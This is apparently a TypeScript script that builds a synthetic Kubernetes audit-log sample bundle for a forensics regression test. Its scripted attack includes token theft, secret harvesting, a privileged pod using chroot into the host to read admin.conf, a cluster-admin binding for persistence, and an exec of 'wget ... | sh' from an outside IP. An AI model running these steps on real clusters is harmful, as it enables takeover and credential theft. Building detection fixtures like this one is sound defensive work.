/**
 * Builds sample-bundles/k8s-audit-attack.tgz: a collect.sh bundle (docs/bundle-format.md layout:
 * meta.env, commands.tsv, collection.log, SHA256SUMS) of a Kubernetes control-plane node whose
 * API server audit log holds an attack among two hours of benign background traffic:
 *
 *   10:02  anonymous probing from 198.51.100.23; a legacy binding lets anonymous list pods
 *   10:05  the shop/frontend service-account token, stolen from its pod, replayed with curl from
 *          outside: lists secrets in shop (allowed), probes kube-system (a burst of 403s)
 *   10:10  the ci/deployer token found among those secrets: 12 distinct secrets read in 2 minutes
 *   10:14  a privileged, hostPID, hostNetwork pod mounting / (default/node-debugger) created...
 *   10:15  ...and exec'd into: chroot /host; then an exec into kube-proxy (privileged per pods.json)
 *   10:20  a ClusterRoleBinding of cluster-admin to a new user; 10:22 a token for a kube-system SA
 *   10:25  tmp-shell-5f7c created, exec'd into, deleted 100 s later
 *
 * The audit log is rotated: control-plane/audit/audit-2026-11-30T10-00-00.000.log.gz holds the
 * part before 10:00, control-plane/audit/audit.log the rest (as kube-apiserver's lumberjack
 * rotation names them, compressed). k8s/pods.json (kubectl get pods -A -o json, v1.29 format)
 * shows kube-proxy and node-debugger privileged. Events are synthetic (no cluster here) and
 * deterministic; see test/fixtures/audit/README.md for the format they follow.
 *
 *   npm run build && node dist/scripts/make-sample-audit-bundle.js
 *   UPDATE_EXPECTED=1 npx vitest run test/audit-regression.test.ts
 */
import { createHash } from 'node:crypto';
import { dirname, join } from 'node:path';
import { fileURLToPath } from 'node:url';
import { gzipSync } from 'node:zlib';
import { metaEnv, writeSampleBundle } from './sample-bundle.js';
import { type AuditRequest, random } from './audit-log-writer.js';
import { backgroundRequest, fakeUid, podSpec, saUser } from './audit-traffic.js';
import { ATTACKER_IP, BOB, execRequest, logOf, privilegedPod, request, resourceRequest } from './make-audit-fixtures.js';

const ROOT = join(dirname(fileURLToPath(import.meta.url)), '..', '..');
const OUT = join(ROOT, 'sample-bundles', 'k8s-audit-attack.tgz');
const HOST = 'cp-1';
const STAMP = '20261130T120501Z';
const DIR = `cf-bundle-${HOST}-${STAMP}`;

const T = (hms: string, us = 0) => Date.parse(`2026-11-30T${hms}Z`) * 1000 + us;

const FRONTEND = saUser('shop', 'frontend', {
  'authentication.kubernetes.io/pod-name': ['frontend-6d8f9c7b5-x2k4q'],
  'authentication.kubernetes.io/pod-uid': [fakeUid('frontend-6d8f9c7b5-x2k4q')],
});
const DEPLOYER = saUser('ci', 'deployer');
const CURL = 'curl/8.5.0';

export function attack(): AuditRequest[] {
  const ext = { ip: ATTACKER_IP };
  const anon = { username: 'system:anonymous', groups: ['system:unauthenticated'] };
  const probe = ['configmaps', 'pods', 'serviceaccounts', 'roles', 'rolebindings', 'deployments', 'daemonsets', 'nodes', 'clusterroles', 'namespaces', 'persistentvolumes', 'jobs'];
  const harvest = ['bootstrap-token-abcdef', 'coredns-token', 'kube-proxy-token', 'etcd-backup-credentials', 'cloud-provider-config', 'registry-admin'].map((n) => ['kube-system', n]).concat(
    ['stripe-api-key', 'ledger-db-credentials', 'payments-tls', 'webhook-signing-key', 'fraud-model-key', 'bank-sftp'].map((n) => ['payments', n]),
  );
  return [
    request({ at: T('10:02:01', 113_402), verb: 'get', user: anon, requestURI: '/version', sourceIPs: [ATTACKER_IP], userAgent: CURL, reason: 'RBAC: allowed by ClusterRoleBinding "system:public-info-viewer" of ClusterRole "system:public-info-viewer" to Group "system:unauthenticated"' }),
    resourceRequest(T('10:02:09', 965_988), anon, 'list', 'secrets', { namespace: 'kube-system', code: 403, ...ext, ua: CURL }),
    resourceRequest(T('10:02:14', 117_041), anon, 'list', 'pods', { namespace: 'shop', ...ext, ua: CURL, reason: 'RBAC: allowed by ClusterRoleBinding "legacy-anonymous-view" of ClusterRole "view" to User "system:anonymous"' }),
    resourceRequest(T('10:05:12', 446_572), FRONTEND, 'list', 'secrets', { namespace: 'shop', ...ext, ua: CURL, reason: 'RBAC: allowed by RoleBinding "frontend" of Role "frontend" to ServiceAccount "frontend/shop" in namespace "shop"' }),
    resourceRequest(T('10:05:20', 575_007), FRONTEND, 'list', 'secrets', { namespace: 'kube-system', code: 403, ...ext, ua: CURL }),
    ...probe.map((resource, i) =>
      resourceRequest(T(`10:06:${String(10 + i * 2).padStart(2, '0')}`, 201_000 + i), FRONTEND, 'list', resource, {
        namespace: ['nodes', 'clusterroles', 'namespaces', 'persistentvolumes'].includes(resource) ? undefined : 'kube-system',
        group: ['deployments', 'daemonsets'].includes(resource) ? 'apps' : resource === 'jobs' ? 'batch' : ['roles', 'rolebindings', 'clusterroles'].includes(resource) ? 'rbac.authorization.k8s.io' : undefined,
        code: 403,
        ...ext,
        ua: CURL,
      }),
    ),
    ...harvest.map(([ns, name], i) =>
      resourceRequest(T(`10:${String(10 + Math.floor((i * 10) / 60)).padStart(2, '0')}:${String((i * 10) % 60).padStart(2, '0')}`, 330_000 + i), DEPLOYER, 'get', 'secrets', {
        namespace: ns,
        name,
        ...ext,
        reason: 'RBAC: allowed by ClusterRoleBinding "ci-deployer" of ClusterRole "cluster-admin" to ServiceAccount "deployer/ci"',
      }),
    ),
    resourceRequest(T('10:14:02', 512_334), DEPLOYER, 'create', 'pods', { namespace: 'default', name: 'node-debugger', ...ext, level: 'Request', body: privilegedPod('node-debugger', 'default') }),
    execRequest(T('10:15:10', 552_581), DEPLOYER, 'default', 'node-debugger', ['chroot', '/host', 'sh', '-c', 'cat /etc/kubernetes/admin.conf; crontab -l'], 'debugger', { ...ext, seconds: 95 }),
    execRequest(T('10:17:31', 204_917), DEPLOYER, 'kube-system', 'kube-proxy-7xk2p', ['cat', '/var/lib/kube-proxy/kubeconfig.conf'], 'kube-proxy', { ...ext, seconds: 2 }),
    resourceRequest(T('10:20:05', 118_739), DEPLOYER, 'create', 'clusterrolebindings', {
      name: 'system:monitoring-agent',
      group: 'rbac.authorization.k8s.io',
      ...ext,
      level: 'RequestResponse',
      body: {
        kind: 'ClusterRoleBinding',
        apiVersion: 'rbac.authorization.k8s.io/v1',
        metadata: { name: 'system:monitoring-agent', creationTimestamp: null },
        subjects: [{ kind: 'User', apiGroup: 'rbac.authorization.k8s.io', name: 'svc-backup' }],
        roleRef: { apiGroup: 'rbac.authorization.k8s.io', kind: 'ClusterRole', name: 'cluster-admin' },
      },
    }),
    resourceRequest(T('10:22:40', 794_033), DEPLOYER, 'create', 'serviceaccounts', {
      namespace: 'kube-system',
      name: 'clusterrole-aggregation-controller',
      sub: 'token',
      ...ext,
      level: 'Request',
      body: { kind: 'TokenRequest', apiVersion: 'authentication.k8s.io/v1', metadata: { creationTimestamp: null }, spec: { audiences: null, expirationSeconds: 31536000, boundObjectRef: null }, status: { token: '', expirationTimestamp: null } },
    }),
    resourceRequest(T('10:25:00', 625_737), DEPLOYER, 'create', 'pods', { namespace: 'default', name: 'tmp-shell-5f7c', ...ext, level: 'Request', body: podSpec('tmp-shell-5f7c', 'default', 'docker.io/library/alpine:3.19') }),
    execRequest(T('10:25:30', 91_876), DEPLOYER, 'default', 'tmp-shell-5f7c', ['sh', '-c', 'wget -qO- http://203.0.113.50/x.sh | sh'], 'tmp-shell', { ...ext, seconds: 40 }),
    resourceRequest(T('10:26:40', 808_795), DEPLOYER, 'delete', 'pods', { namespace: 'default', name: 'tmp-shell-5f7c', ...ext }),
    // benign: an SRE (listed as operator in the regression test) debugging the cart service
    execRequest(T('10:31:02', 447_120), BOB, 'shop', 'cart-5b7c9d8f6-p4lqs', ['sh'], 'cart', { ip: '192.0.2.16', seconds: 300 }),
  ];
}

function background(from: number, to: number, seed: number): AuditRequest[] {
  const rand = random(seed);
  const out: AuditRequest[] = [];
  for (let at = from; at < to; at += Math.floor(rand() * 8_000_000) + 100_000) out.push(backgroundRequest(rand, at));
  return out;
}

function pod(name: string, namespace: string, spec: Record<string, unknown>, node: string, ip: string, created: string, owner?: { kind: string; name: string }): Record<string, unknown> {
  const containers = (spec.containers as { name: string; image: string }[]) ?? [];
  return {
    apiVersion: 'v1',
    kind: 'Pod',
    metadata: {
      creationTimestamp: created,
      ...(owner ? { generateName: `${name.replace(/-[a-z0-9]{5}$/, '')}-`, ownerReferences: [{ apiVersion: 'apps/v1', blockOwnerDeletion: true, controller: true, kind: owner.kind, name: owner.name, uid: fakeUid(owner.name) }] } : {}),
      labels: { app: name.split('-')[0] },
      name,
      namespace,
      resourceVersion: String(48_000 + name.length * 37),
      uid: fakeUid(`${namespace}/${name}`),
    },
    spec: { ...spec, nodeName: node, serviceAccountName: (spec.serviceAccountName as string) ?? 'default' },
    status: {
      phase: 'Running',
      hostIP: '10.0.1.21',
      podIP: ip,
      podIPs: [{ ip }],
      qosClass: 'BestEffort',
      startTime: created,
      containerStatuses: containers.map((c) => ({
        containerID: `containerd://${createHash('sha256').update(`${name}/${c.name}`).digest('hex')}`,
        image: c.image,
        imageID: `${c.image.split(':')[0]}@sha256:${createHash('sha256').update(c.image).digest('hex')}`,
        lastState: {},
        name: c.name,
        ready: true,
        restartCount: 0,
        started: true,
        state: { running: { startedAt: created } },
      })),
    },
  };
}

function podsJson(): string {
  const kubeProxy = {
    containers: [
      {
        command: ['/usr/local/bin/kube-proxy', '--config=/var/lib/kube-proxy/config.conf', '--hostname-override=$(NODE_NAME)'],
        image: 'registry.k8s.io/kube-proxy:v1.29.4',
        imagePullPolicy: 'IfNotPresent',
        name: 'kube-proxy',
        resources: {},
        securityContext: { privileged: true },
        volumeMounts: [
          { mountPath: '/var/lib/kube-proxy', name: 'kube-proxy' },
          { mountPath: '/run/xtables.lock', name: 'xtables-lock' },
          { mountPath: '/lib/modules', name: 'lib-modules', readOnly: true },
        ],
      },
    ],
    hostNetwork: true,
    priorityClassName: 'system-node-critical',
    serviceAccountName: 'kube-proxy',
    volumes: [
      { configMap: { defaultMode: 420, name: 'kube-proxy' }, name: 'kube-proxy' },
      { hostPath: { path: '/run/xtables.lock', type: 'FileOrCreate' }, name: 'xtables-lock' },
      { hostPath: { path: '/lib/modules', type: '' }, name: 'lib-modules' },
    ],
  };
  const debuggerSpec = (privilegedPod('node-debugger', 'default') as { spec: Record<string, unknown> }).spec;
  const app = (name: string, ns: string, image: string) => (podSpec(name, ns, image) as { spec: Record<string, unknown> }).spec;
  const items = [
    pod('cart-5b7c9d8f6-p4lqs', 'shop', app('cart-5b7c9d8f6-p4lqs', 'shop', 'registry.example.com/shop/cart:1.12.0'), 'ip-10-0-1-22', '10.244.1.22', '2026-11-28T08:12:40Z', { kind: 'ReplicaSet', name: 'cart-5b7c9d8f6' }),
    pod('frontend-6d8f9c7b5-x2k4q', 'shop', { ...app('frontend-6d8f9c7b5-x2k4q', 'shop', 'registry.example.com/shop/frontend:1.4.2'), serviceAccountName: 'frontend' }, 'ip-10-0-1-21', '10.244.1.15', '2026-11-28T08:12:41Z', { kind: 'ReplicaSet', name: 'frontend-6d8f9c7b5' }),
    pod('kube-proxy-7xk2p', 'kube-system', kubeProxy, 'cp-1', '10.0.0.10', '2026-11-01T07:00:12Z', { kind: 'DaemonSet', name: 'kube-proxy' }),
    pod('node-debugger', 'default', debuggerSpec, 'cp-1', '10.0.0.10', '2026-11-30T10:14:02Z'),
  ];
  return `${JSON.stringify({ apiVersion: 'v1', items, kind: 'List', metadata: { resourceVersion: '' } }, null, 4)}\n`;
}

function main(): void {
  const files: [string, Buffer | string][] = [];
  const early = background(T('09:00:00'), T('10:00:00'), 11);
  const late = [...background(T('10:00:00'), T('11:00:00'), 12), ...attack()];
  const rotated = `control-plane/audit/audit-2026-11-30T10-00-00.000.log.gz`;
  files.push([rotated, gzipSync(logOf(early), { level: 6 })]);
  files.push(['control-plane/audit/audit.log', logOf(late)]);
  files.push([
    'control-plane/audit-source.tsv',
    `path\tsource\tsize\tcopied_bytes\n/var/log/kubernetes/audit/audit.log\tmanifest --audit-log-path\t${Buffer.byteLength(logOf(late))}\t${Buffer.byteLength(logOf(late))}\n/var/log/kubernetes/audit/audit-2026-11-30T10-00-00.000.log.gz\trotated sibling\t${gzipSync(logOf(early), { level: 6 }).length}\t${gzipSync(logOf(early), { level: 6 }).length}\n`,
  ]);
  files.push(['k8s/pods.json', podsJson()]);
  const steps = [
    ['env', '[internal] environment detection', 'ok', '0', '12:05:01', '12:05:01', 'env/detection.tsv'],
    ['k8s', 'kubectl get pods -A -o json', 'ok', '0', '12:05:02', '12:05:03', 'k8s/pods.json'],
    ['control-plane', '[copy] /var/log/kubernetes/audit/audit.log', 'ok', '0', '12:05:04', '12:05:04', 'control-plane/audit/audit.log'],
    ['control-plane', `[copy] /var/log/kubernetes/audit/audit-2026-11-30T10-00-00.000.log.gz`, 'ok', '0', '12:05:04', '12:05:04', rotated],
    ['control-plane', '[internal] audit log sources', 'ok', '0', '12:05:04', '12:05:04', 'control-plane/audit-source.tsv'],
  ];
  const bytesOf = (p: string) => {
    const f = files.find(([name]) => name === p);
    return f ? Buffer.byteLength(f[1]) : 0;
  };
  files.push(['env/detection.tsv', 'check\tresult\tdetail\nkubectl\tyes\t/usr/local/bin/kubectl\nkubelet\tyes\t/usr/bin/kubelet\ncrictl\tno\tnot installed\n']);
  const commands = [
    'source\tcommand\tstatus\texit\tstart_utc\tend_utc\tbytes\toutput\tnote',
    ...steps.map(([source, command, status, exit, start, end, output]) => [source, command, status, exit, `2026-11-30T${start}Z`, `2026-11-30T${end}Z`, String(bytesOf(output!)), output, ''].join('\t')),
    ['ebpf', 'journalctl -u falco* --no-pager -o short-iso', 'missing', '127', '2026-11-30T12:05:05Z', '2026-11-30T12:05:05Z', '0', '-', 'journalctl has no falco unit'].join('\t'),
  ].join('\n');
  const meta = metaEnv({
    HOST,
    START_UTC: '2026-11-30T12:05:01Z',
    END_UTC: '2026-11-30T12:05:06Z',
    ENV_DOCKER: 'no',
    ENV_CONTAINERD: 'yes',
    ENV_CRIO: 'no',
    ENV_KUBERNETES: 'yes',
    ENV_IN_CONTAINER: 'no',
    CGROUP_VERSION: '2',
    KERNEL: '6.1.0-27-cloud-amd64',
    SINCE: '',
    UNTIL: '',
    NAMESPACE: '',
    SKIP: 'host,docker,cri,etcd',
    ARGS: '-o /root/ir --skip host,docker,cri,etcd',
  });
  files.push(['commands.tsv', `${commands}\n`]);
  files.push(['collection.log', '2026-11-30T12:05:01Z INFO collect.sh 0.1.0 starting\n2026-11-30T12:05:06Z INFO done\n']);
  files.push(['meta.env', meta]);
  writeSampleBundle({ dir: DIR, files, mtime: '2026-11-30 12:05:06Z', out: OUT });
  process.stdout.write(`wrote ${OUT} (${early.length + late.length} requests)\n`);
}

if (process.argv[1] && fileURLToPath(import.meta.url) === process.argv[1]) main();
